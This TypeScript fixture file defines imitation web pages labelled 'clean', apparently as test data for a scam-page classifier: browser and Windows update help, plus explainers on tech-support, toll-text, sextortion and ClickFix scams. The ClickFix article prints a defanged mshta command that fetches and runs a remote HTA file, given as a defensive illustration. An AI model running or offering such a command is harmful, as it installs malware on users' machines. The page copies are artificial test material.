import { redirectRoute, type Entry } from '../entry.js';
import { doc, pic, js, json, html, css, tag, cookieBar, baseCss } from '../parts/w-kit.js';
import { fileRoute, pe } from '../parts/e-bin.js';

const article = (o: { lang?: string; title: string; site: string; accent: string; byline: string; body: string; extraHead?: string }) =>
  doc({
    lang: o.lang ?? 'en',
    title: o.title,
    head: o.extraHead ?? '',
    css: baseCss(o.accent, 'Charter,Georgia,serif') + `article{max-width:740px;margin:0 auto;font-size:18px}article h1{font-size:36px;line-height:1.2}pre,code{font-family:Consolas,monospace;font-size:14px;background:#f3f3f3}pre{padding:12px;overflow:auto}blockquote{border-left:4px solid ${o.accent};margin:0;padding:4px 16px;color:#555}.fig{background:#eee;border:1px solid #ccc;padding:14px;font:14px Arial;color:#333}`,
    body: `<header class="top"><b style="color:${o.accent}">${o.site}</b><nav><a href="#">News</a><a href="#">Guides</a><a href="#">Reviews</a><a href="#">Newsletter</a></nav></header>
<div class="wrap"><article><h1>${o.title.split(' | ')[0]}</h1><p class="muted">${o.byline}</p>${o.body}</article></div>
<footer>© 2025 ${o.site}. <a href="#">About</a><a href="#">Privacy</a><a href="#">Contact</a></footer>`,
  });

export const entries: Entry[] = [
  {
    id: 'w-clean-help-chrome-update',
    label: 'clean',
    kind: 'browser-update-help',
    url: 'https://support.google.com/chrome/answer/95414?hl=en-GB&co=GENIE.Platform%3DDesktop&oco=1',
    body: doc({
      title: 'Update Google Chrome - Computer - Google Chrome Help',
      css: baseCss('#1a73e8', 'Roboto,Arial,sans-serif'),
      body: `<header class="top"><b>Google Chrome Help</b><nav><a href="#">Help Center</a><a href="#">Community</a></nav><input style="width:300px" placeholder="Describe your issue"></header>
<div class="wrap" style="max-width:760px"><h1>Update Google Chrome</h1><p>To make sure you're protected by the latest security updates, Google Chrome can automatically update when a new version of the browser is available on your device.</p>
<h2>Get a Chrome update when available</h2><ol><li>On your computer, open Chrome.</li><li>At the top right, select More <b>⋮</b>.</li><li>Select <b>Help › About Google Chrome</b>.</li><li>Select <b>Update Google Chrome</b>. If you can't find this button, you're on the latest version.</li><li>Select <b>Relaunch</b>.</li></ol>
<h2>Tips</h2><ul><li>Chrome updates itself; you never need to download an update from a website pop-up.</li><li>If a site says your browser is out of date and offers a file to download, close the tab — that's not from Google.</li></ul>
<p>Was this helpful? <button>Yes</button> <button>No</button></p></div>
<footer>©2025 Google · <a href="#">Privacy Policy</a><a href="#">Terms of Service</a></footer>`,
    }),
  },
  {
    id: 'w-clean-help-firefox-update-fr',
    label: 'clean',
    kind: 'browser-update-help',
    url: 'https://support.mozilla.org/fr/kb/mettre-jour-firefox-derniere-version',
    body: doc({
      lang: 'fr',
      title: 'Mettre à jour Firefox vers la dernière version | Assistance de Firefox',
      css: baseCss('#0060df', 'Inter,Arial,sans-serif'),
      body: `<header class="top"><b>mozilla | Assistance</b><nav><a href="#">Explorer l’aide</a><a href="#">Forums</a><a href="#">Contribuer</a></nav></header>
<div class="wrap" style="max-width:760px"><h1>Mettre à jour Firefox vers la dernière version</h1><p>Firefox se met à jour automatiquement par défaut, mais vous pouvez toujours lancer une mise à jour manuellement.</p>
<ol><li>Cliquez sur le bouton de menu ☰, puis sur <b>Aide</b> et sélectionnez <b>À propos de Firefox</b>.</li><li>La fenêtre « À propos de Mozilla Firefox » s’ouvre. Firefox recherche les mises à jour et les télécharge automatiquement.</li><li>Une fois le téléchargement terminé, cliquez sur <b>Redémarrer pour mettre à jour Firefox</b>.</li></ol>
<p><b>Important :</b> méfiez-vous des fausses alertes de mise à jour sur des sites web. Mozilla ne vous demandera jamais d’installer une mise à jour depuis une fenêtre publicitaire.</p>
<p class="muted">Ces personnes ont contribué à cet article : AliceWyman, Michele Rodaro, Goofy_BZ</p></div>`,
    }),
  },
  {
    id: 'w-clean-help-microsoft-windows-update',
    label: 'clean',
    kind: 'browser-update-help',
    url: 'https://support.microsoft.com/en-gb/windows/update-windows-3c5ae7fc-9fb6-9af1-1984-b5e0412c556a',
    body: doc({
      lang: 'en-GB',
      title: 'Update Windows - Microsoft Support',
      css: baseCss('#0067b8', 'Segoe UI,sans-serif'),
      body: `<header class="top"><b>Microsoft | Support</b><nav><a href="#">Microsoft 365</a><a href="#">Windows</a><a href="#">Surface</a><a href="#">Xbox</a></nav></header>
<div class="wrap" style="max-width:760px"><h1>Update Windows</h1><p>In Windows 11, you decide when and how to get the latest updates to keep your device running smoothly and securely. To manage your options and see available updates, select <b>Start › Settings › Windows Update › Check for updates</b>.</p>
<h2>Get help with Windows Update</h2><p>If you encounter error 0x80070643 when installing an update, run the Windows Update troubleshooter from <b>Settings › System › Troubleshoot</b>.</p>
<h2>Protect yourself from tech support scams</h2><p>Microsoft's error and warning messages never include phone numbers. Microsoft will not proactively reach out to you to provide unsolicited PC or technical support. If a web page locks your browser and asks you to call a number, close the browser using Task Manager.</p>
<p>Need more help? <a href="#">Contact Support</a> · <a href="#">Ask the community</a></p></div>
<footer>© Microsoft 2025 · <a href="#">Privacy</a><a href="#">Terms of use</a></footer>`,
    }),
  },
  {
    id: 'w-clean-blog-fake-virus-alert-explainer',
    label: 'clean',
    kind: 'scam-explainer',
    url: 'https://www.techsavvyseniors.org/guides/fake-virus-warnings-on-your-screen',
    body: article({
      title: 'That scary “Your computer is infected” screen is fake. Here’s what to do | TechSavvy Seniors',
      site: 'TechSavvy Seniors',
      accent: '#b45309',
      byline: 'By Dorothy Kline · Updated November 12, 2025 · 6 min read',
      body: `<p>You were reading the news when suddenly the screen turned blue, a voice started saying your computer was infected, and a box told you to call “Microsoft Support” at a toll-free number. It even seems impossible to close. Take a breath: <b>your computer is almost certainly fine.</b></p>
<div class="fig">Example of what scammers show: <i>“** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS ** Call Windows Support: +1-8XX-XXX-XXXX”</i></div>
<h2>Why it looks so real</h2><p>These pages use full-screen mode, loud audio and pop-ups that reappear when you click “Close”. They copy Microsoft and Apple logos. The phone number leads to a call center that will ask to connect to your computer remotely and then charge you hundreds of dollars, often in gift cards.</p>
<h2>How to get out</h2><ol><li>Press <b>Esc</b> to leave full-screen.</li><li>Press <b>Ctrl + Shift + Esc</b> to open Task Manager and end your browser.</li><li>When you reopen the browser, don’t restore the previous tabs.</li></ol>
<h2>If you already called</h2><p>Uninstall any remote-access program they had you install (such as AnyDesk or TeamViewer), change your passwords from another device, and call your bank. Report it at reportfraud.ftc.gov.</p>
<blockquote>Real companies never put phone numbers in error messages.</blockquote>`,
    }),
  },
  {
    id: 'w-clean-ftc-toll-text-scam-alert',
    label: 'clean',
    kind: 'scam-explainer',
    url: 'https://consumer.ftc.gov/consumer-alerts/2025/01/got-text-about-unpaid-tolls-its-probably-scam',
    body: article({
      title: 'Got a text about unpaid tolls? It’s probably a scam | Consumer Advice',
      site: 'FTC Consumer Advice',
      accent: '#003e7e',
      byline: 'By Federal Trade Commission Consumer Education Specialist · January 2025',
      body: `<p>You get a text saying you owe money for unpaid tolls. It tells you to pay right away or face a late fee — and gives you a link to pay. But is it really from the tolling agency? Probably not.</p>
<p>Scammers are texting people, pretending to be from tolling agencies like E-ZPass, SunPass and FasTrak. The texts include a dollar amount you supposedly owe and a link. But if you click it, the scammer is after your money or your personal information.</p>
<h2>What to do</h2><ul><li><b>Don’t click on any links</b> in, or respond to, unexpected texts.</li><li>Check whether the message is legit by contacting the tolling agency using a phone number or website you know is real.</li><li>Report and delete unwanted texts. Use your phone’s “report junk” option or forward to 7726 (SPAM).</li></ul>
<p>If you gave your card number, contact your card company right away. Report the scam at <a href="https://reportfraud.ftc.gov">ReportFraud.ftc.gov</a>.</p>`,
    }),
  },
  {
    id: 'w-clean-blog-clickfix-explained',
    label: 'clean',
    kind: 'scam-explainer',
    url: 'https://blog.securelayer-research.com/2025/10/clickfix-fake-captcha-powershell/',
    body: article({
      title: 'ClickFix: how fake CAPTCHAs trick people into running PowerShell | SecureLayer Research',
      site: 'SecureLayer Research',
      accent: '#7c3aed',
      byline: 'Threat Intel Team · October 28, 2025',
      body: `<p>Over the past year, “ClickFix” has become one of the most common initial-access techniques we observe on compromised WordPress sites. Instead of delivering a file, the page convinces the visitor to paste and run a command themselves.</p>
<h2>How the lure works</h2><p>A script injected into the site displays a fake Cloudflare or reCAPTCHA check. When the visitor clicks the checkbox, the page silently copies a command to the clipboard and shows “verification steps”: press Win+R, press Ctrl+V, press Enter.</p>
<p>A typical (defanged) clipboard payload we collected:</p>
<pre>mshta hxxps://compromised[.]example/verify.hta # I am not a robot - reCAPTCHA Verification ID: 2214</pre>
<p>The trailing comment is what the victim sees in the Run box, so the command looks like a harmless verification string.</p>
<h2>Indicators</h2><ul><li>Injected script tags referencing lookalike CDN domains</li><li>Use of <code>navigator.clipboard.writeText</code> or <code>document.execCommand('copy')</code> on click</li><li>Payload hosts serving HTA or PowerShell</li></ul>
<h2>Mitigation</h2><p>Disable the Run dialog via Group Policy for standard users, enable PowerShell Constrained Language Mode, and train users: <b>no real CAPTCHA ever asks you to type into Windows.</b></p>`,
    }),
  },
  {
    id: 'w-clean-getsafeonline-sextortion-advice-uk',
    label: 'clean',
    kind: 'scam-explainer',
    url: 'https://www.getsafeonline.org/personal/articles/sextortion/',
    body: article({
      lang: 'en-GB',
      title: 'Sextortion emails and webcam blackmail | Get Safe Online',
      site: 'Get Safe Online',
      accent: '#00857c',
      byline: 'Get Safe Online · Advice',
      body: `<p>You may have received an email claiming that someone has hacked your device, recorded you through your webcam and will share the video with your contacts unless you pay them in Bitcoin. In the vast majority of cases, <b>this is a bluff</b>. The criminals send the same message to millions of people, often quoting an old password from a data breach to make it look convincing.</p>
<h2>What you should do</h2><ul><li>Don’t pay. Paying marks you out as someone who will pay again.</li><li>Don’t reply or engage with the sender.</li><li>Change any password mentioned in the email, and turn on 2-step verification.</li><li>Report it to Action Fraud on 0300 123 2040, or in Scotland to Police Scotland on 101.</li></ul>
<p>If you are under 18 and someone is threatening to share images of you, contact Childline (0800 1111) or use the Report Remove tool.</p>`,
    }),
  },
];
